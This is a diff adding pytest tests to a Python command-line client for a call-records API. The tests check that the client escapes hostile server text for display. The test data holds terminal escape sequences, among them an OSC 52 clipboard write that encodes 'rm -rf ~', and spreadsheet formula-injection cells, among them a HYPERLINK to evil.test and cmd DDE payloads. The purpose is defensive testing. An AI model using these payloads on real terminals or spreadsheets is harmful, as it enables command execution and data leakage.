@@ -21,10 +21,17 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from aiohttp import web
 
 from alohub_async import cli
 from alohub_async.cli import CSV_FIELDS, ExitCode, main, run
-from alohub_async.testing import DEMO_ACCESS_TOKEN, DEMO_API_KEY, FakeAlohub, Fault
+from alohub_async.testing import (
+    DEMO_ACCESS_TOKEN,
+    DEMO_API_KEY,
+    CallDataset,
+    FakeAlohub,
+    Fault,
+)
 
 API_KEY = "cli-api-key-SECRET-4711"
 ACCESS_TOKEN = "cli-access-token-SECRET-0815"
@@ -646,6 +653,329 @@ async def test_unencodable_output_exits_2_with_advice(
     monkeypatch.setattr(sys, "stdout", ascii_out)
     assert await run(connect(fake, "calls", "list", *RANGE, "--format", "jsonl")) == 2
     assert "--output" in one_error_line(capsys.readouterr().err)
+
+
+# --- hostile text: terminal escapes and spreadsheet formulas ---------------------------------
+
+#: Escape sequences a hostile backend may put in any text: an OSC 52 clipboard write, a
+#: title change, a screen clear, an 8-bit CSI, a bidi override and isolate, DEL, BS and CR.
+HOSTILE = "\x1b]52;c;cm0gLXJmIH4K\x07\x1b]0;owned\x07\x1b[2J\x9b31m\u202eevil\u2066\x7f\x08\r"
+#: How the CLI shows HOSTILE on a terminal: the same characters, spelled as escapes.
+VISIBLE = r"\x1b]52;c;cm0gLXJmIH4K\x07\x1b]0;owned\x07\x1b[2J\x9b31m\u202eevil\u2066\x7f\x08\r"
+#: Characters a terminal may act on (line feeds end the CLI's own lines, so they are allowed).
+ACTING = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")
+
+
+class HostileData(CallDataset):
+    """The synthetic calls as a hostile backend serves them: chosen text replaced.
+
+    ``fields`` replace the record's values (list and detail); ``id_prefix`` goes in front of
+    each ``callId`` (so ids stay distinct); ``transcript`` goes in front of every segment's
+    text and speaker, or, with ``plain_transcript``, becomes the second line of a transcript
+    served as one string.
+    """
+
+    def __init__(
+        self,
+        *,
+        fields: dict[str, str] | None = None,
+        id_prefix: str = "",
+        transcript: str = "",
+        plain_transcript: bool = False,
+    ) -> None:
+        super().__init__(CALLS, 7)
+        self.fields = fields or {}
+        self.id_prefix = id_prefix
+        self.transcript = transcript
+        self.plain_transcript = plain_transcript
+
+    def _taint(self, record: dict[str, Any]) -> dict[str, Any]:
+        return {**record, **self.fields, "callId": self.id_prefix + record["callId"]}
+
+    def page(self, start: Any, end: Any, page: int, limit: int) -> tuple[list[dict[str, Any]], int]:
+        records, total = super().page(start, end, page, limit)
+        return [self._taint(record) for record in records], total
+
+    def detail(self, call_id: str) -> dict[str, Any] | None:
+        detail = super().detail(call_id)
+        if detail is None:
+            return None
+        detail = self._taint(detail)
+        segments = detail["transcript"] or []
+        if self.plain_transcript:
+            detail["transcript"] = f"first line\n{self.transcript}second line"
+        for segment in segments:
+            segment["text"] = self.transcript + segment["text"]
+            segment["speaker"] = self.transcript + segment["speaker"]
+        return detail
+
+
+@contextlib.asynccontextmanager
+async def serving(data: CallDataset) -> AsyncIterator[FakeAlohub]:
+    """Run a fake Alohub that serves ``data``."""
+    fake = FakeAlohub(api_key=API_KEY, access_token=ACCESS_TOKEN)
+    fake.data = data
+    async with fake:
+        yield fake
+
+
+@contextlib.asynccontextmanager
+async def raw_server(status: int, body: bytes, content_type: str) -> AsyncIterator[str]:
+    """Serve ``body`` with ``status`` to every request, bytes as given; yield the base URL."""
+
+    async def answer(request: web.Request) -> web.Response:
+        await request.read()
+        return web.Response(status=status, body=body, content_type=content_type)
+
+    app = web.Application()
+    app.router.add_route("*", "/{tail:.*}", answer)
+    runner = web.AppRunner(app, access_log=None)
+    await runner.setup()
+    try:
+        site = web.TCPSite(runner, "127.0.0.1", 0)
+        await site.start()
+        port = runner.addresses[0][1]
+        yield f"http://127.0.0.1:{port}"
+    finally:
+        await runner.cleanup()
+
+
+def raw_args(base_url: str, *args: str) -> list[str]:
+    """The arguments that point the CLI at a raw server, then ``args``."""
+    return ["--base-url", base_url, "--api-key", API_KEY, "--access-token", ACCESS_TOKEN, *args]
+
+
+async def test_table_shows_escape_sequences_as_visible_text(
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    """Escapes in any field reach the table as visible text, one call per line."""
+    data = HostileData(fields={"agentName": HOSTILE, "caller": HOSTILE}, id_prefix=HOSTILE)
+    async with serving(data) as fake:
+        assert await run(connect(fake, "calls", "list", *RANGE)) == 0
+    out = capsys.readouterr().out
+    assert ACTING.search(out) is None
+    rows = out.splitlines()[1:]
+    assert len(rows) == CALLS
+    assert all(row.startswith("\\x1b]52;c;") for row in rows)
+    assert all(row.endswith(f"  {VISIBLE}") for row in rows)  # AGENT, the last column
+
+
+@pytest.mark.parametrize(
+    ("char", "shown"),
+    [
+        ("\x00", r"\x00"),
+        ("\x1b", r"\x1b"),
+        ("\t", r"\t"),
+        ("\n", r"\n"),
+        ("\x85", r"\x85"),
+        ("\x9b", r"\x9b"),
+        ("\u061c", r"\u061c"),
+        ("\u200f", r"\u200f"),
+        ("\u2028", r"\u2028"),
+        ("\u202e", r"\u202e"),
+        ("\u2067", r"\u2067"),
+    ],
+)
+async def test_each_kind_of_control_character_is_escaped(
+    char: str, shown: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """C0, C1, bidi and line-separator characters each get a visible escape in the table."""
+    async with serving(HostileData(fields={"agentName": f"a{char}b"})) as fake:
+        assert await run(connect(fake, "calls", "list", *RANGE)) == 0
+    rows = capsys.readouterr().out.splitlines()[1:]
+    assert len(rows) == CALLS
+    assert all(row.endswith(f"  a{shown}b") for row in rows)
+
+
+async def test_lone_surrogate_is_shown_in_the_table_and_exact_in_jsonl(
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    """A lone surrogate (valid JSON, unencodable) is escaped in the table, exact in JSONL."""
+    body = b'{"success": "1", "data": [{"callId": "c1", "agentName": "a\\ud800b"}], "total": 1}'
+    async with raw_server(200, body, "application/json") as url:
+        assert await run(raw_args(url, "calls", "list", *RANGE)) == 0
+        assert capsys.readouterr().out.splitlines()[1].endswith(r"  a\ud800b")
+        assert await run(raw_args(url, "calls", "list", *RANGE, "--format", "jsonl")) == 0
+        assert json.loads(capsys.readouterr().out)["agent"] == "a\ud800b"
+
+
+async def test_jsonl_is_exact_and_safe_for_a_terminal(capsys: pytest.CaptureFixture[str]) -> None:
+    """JSON lines decode to the exact text; DEL, C1 and bidi characters are JSON-escaped."""
+    data = HostileData(fields={"agentName": HOSTILE, "customerName": "Bùi" + HOSTILE})
+    async with serving(data) as fake:
+        assert await run(connect(fake, "calls", "list", *RANGE, "--format", "jsonl")) == 0
+    out = capsys.readouterr().out
+    assert ACTING.search(out) is None
+    rows = [json.loads(line) for line in out.splitlines()]
+    assert len(rows) == CALLS
+    assert all(row["agent"] == HOSTILE for row in rows)
+    assert all(row["customer_name"] == "Bùi" + HOSTILE for row in rows)
+    assert "Bùi" in out  # non-ASCII text stays readable
+
+
+async def test_get_shows_escapes_in_fields_and_transcript_as_visible_text(
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    """``calls get`` shows the server's id, fields, speakers and lines with visible escapes."""
+    data = HostileData(fields={"agentName": HOSTILE}, id_prefix=HOSTILE, transcript=HOSTILE)
+    async with serving(data) as fake:
+        assert await run(connect(fake, "calls", "get", answered_id(fake))) == 0
+    out = capsys.readouterr().out
+    assert ACTING.search(out) is None
+    lines = out.splitlines()
+    assert lines[0].startswith(f"Call {VISIBLE}")
+    assert f"  agent      {VISIBLE}" in lines
+    segments = [line for line in lines if line.startswith("  [")]
+    assert segments
+    assert all(f"] {VISIBLE}" in line and f": {VISIBLE}" in line for line in segments)
+
+
+async def test_get_plain_transcript_keeps_its_lines_and_escapes_the_rest(
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    """A transcript served as one string keeps its line breaks; escapes inside are visible."""
+    async with serving(HostileData(transcript=HOSTILE, plain_transcript=True)) as fake:
+        assert await run(connect(fake, "calls", "get", answered_id(fake))) == 0
+    out = capsys.readouterr().out
+    assert ACTING.search(out) is None
+    # HOSTILE ends with CR: in plain text, a line break like any other.
+    shown = VISIBLE.removesuffix(r"\r")
+    assert out.endswith(f"Transcript:\n  first line\n  {shown}\n  second line\n")
+
+
+async def test_get_json_is_exact_and_safe_for_a_terminal(
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    """``calls get --json`` decodes to the exact server text, and shows none of it raw."""
+    data = HostileData(fields={"agentName": HOSTILE}, id_prefix=HOSTILE, transcript=HOSTILE)
+    async with serving(data) as fake:
+        call_id = answered_id(fake)
+        assert await run(connect(fake, "calls", "get", call_id, "--json")) == 0
+        served = data.detail(call_id)
+    out = capsys.readouterr().out
+    assert ACTING.search(out) is None
+    detail = json.loads(out)
+    assert served is not None
+    assert detail["call_id"] == HOSTILE + call_id
+    assert detail["agent"] == HOSTILE
+    assert [(s["speaker"], s["text"]) for s in detail["transcript"]["segments"]] == [
+        (s["speaker"], s["text"]) for s in served["transcript"]
+    ]
+
+
+@pytest.mark.parametrize(
+    ("status", "code"), [(418, ExitCode.RESPONSE), (500, ExitCode.NETWORK)], ids=["418", "500"]
+)
+async def test_server_error_text_with_escapes_is_shown_visibly_on_stderr(
+    status: int, code: ExitCode, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """An error body of raw escape sequences reaches stderr as one line of visible text."""
+    async with raw_server(status, HOSTILE.encode(), "text/plain") as url:
+        args = raw_args(url, "--max-retries", "0", "calls", "list", *RANGE)
+        assert await run(args) == code
+    out, err = capsys.readouterr()
+    assert ACTING.search(err.removesuffix("\n")) is None
+    assert r"\x1b]52;c;cm0gLXJmIH4K\x07" in one_error_line(err)
+    assert out == ""
+
+
+@pytest.mark.parametrize(
+    "fault",
+    [Fault.status(404, message=HOSTILE), Fault.failure_body("X", HOSTILE)],
+    ids=["404-json", "failure-body"],
+)
+async def test_server_error_message_with_escapes_is_shown_visibly(
+    fault: Fault, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """The backend's JSON ``error_message`` never reaches stderr with a raw control."""
+    async with serving(HostileData()) as fake:
+        fake.script(fault)
+        assert await run(connect(fake, "calls", "get", answered_id(fake))) != 0
+    err = capsys.readouterr().err
+    one_error_line(err)
+    assert ACTING.search(err.removesuffix("\n")) is None
+
+
+async def test_demo_shows_server_text_visibly(
+    no_retry_waits: None, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """The demo prints ids, numbers and transcript lines of its server as visible text."""
+
+    class HostileFake(FakeAlohub):
+        def __init__(self, **kwargs: Any) -> None:
+            super().__init__(**kwargs)
+            # Not the ids: the demo fetches details by id, and refuses unsafe ones.
+            self.data = HostileData(fields={"caller": HOSTILE}, transcript=HOSTILE)
+
+    monkeypatch.setattr(cli, "FakeAlohub", HostileFake)
+    assert await run(["demo"]) == 0
+    out = capsys.readouterr().out
+    assert ACTING.search(out) is None
+    assert re.search(rf"^  \S+  inbound   {re.escape(VISIBLE)} -> ", out, re.MULTILINE)
+    assert re.search(rf"^  \[ *[\d.]+s\] {re.escape(VISIBLE)}", out, re.MULTILINE)
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [
+        ('=HYPERLINK("http://evil.test/?"&A1,"x")', '\'=HYPERLINK("http://evil.test/?"&A1,"x")'),
+        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("-", "'-"),
+        ("+84901234567", "+84901234567"),
+        ("+84 (90) 123-4567", "+84 (90) 123-4567"),
+        ("-12.5", "-12.5"),
+        ("Nguyễn = Bùi", "Nguyễn = Bùi"),
+    ],
+)
+async def test_csv_defuses_formula_cells_and_keeps_numbers(
+    cell: str, written: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """A cell a spreadsheet would run gets a leading ``'``; phone numbers and numbers do not."""
+    async with serving(HostileData(fields={"customerName": cell, "agentName": cell})) as fake:
+        assert await run(connect(fake, "calls", "list", *RANGE, "--format", "csv")) == 0
+    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out, newline="")))
+    assert len(rows) == CALLS
+    assert {(row["customer_name"], row["agent"]) for row in rows} == {(written, written)}
+
+
+async def test_csv_raw_writes_cells_exactly(capsys: pytest.CaptureFixture[str]) -> None:
+    """``--csv-raw`` writes every cell as received, formulas and escapes included."""
+    fields = {"customerName": "=1+1", "agentName": HOSTILE, "caller": "-2+3+cmd|' /C calc'!A0"}
+    async with serving(HostileData(fields=fields)) as fake:
+        args = ["--format", "csv", "--csv-raw"]
+        assert await run(connect(fake, "calls", "list", *RANGE, *args)) == 0
+    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out, newline="")))
+    assert len(rows) == CALLS
+    assert {(r["customer_name"], r["agent"], r["caller"]) for r in rows} == {tuple(fields.values())}
+
+
+async def test_csv_on_a_terminal_shows_escapes_visibly(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """CSV printed on a terminal gets visible escapes too (a file gets the exact cells)."""
+    tty = FakeTty()
+    monkeypatch.setattr(sys, "stdout", tty)
+    async with serving(HostileData(fields={"agentName": HOSTILE})) as fake:
+        assert await run(connect(fake, "calls", "list", *RANGE, "--format", "csv")) == 0
+    out = tty.getvalue()
+    assert ACTING.search(out) is None
+    rows = list(csv.DictReader(io.StringIO(out)))
+    assert len(rows) == CALLS
+    assert {row["agent"] for row in rows} == {VISIBLE}
+
+
+async def test_csv_raw_without_csv_format_exits_2_before_any_request(
+    fake: FakeAlohub, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """``--csv-raw`` with another format is a usage error, found before any request."""
+    args = connect(fake, "calls", "list", *RANGE, "--format", "jsonl", "--csv-raw")
+    assert await run(args) == ExitCode.USAGE
+    assert "--csv-raw" in one_error_line(capsys.readouterr().err)
+    assert fake.counters.requests == 0
 
 
 # --- main() -------------------------------------------------------------------------------
